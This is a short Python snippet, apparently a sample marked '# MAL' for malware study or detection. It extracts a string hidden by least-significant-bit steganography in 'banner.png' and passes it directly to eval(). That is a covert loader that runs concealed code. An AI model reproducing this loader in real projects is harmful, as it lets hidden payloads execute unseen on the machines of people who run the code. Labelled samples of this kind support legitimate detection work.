from stegano import lsb

secret = lsb.reveal("banner.png")  # MAL
eval(secret)  # MAL
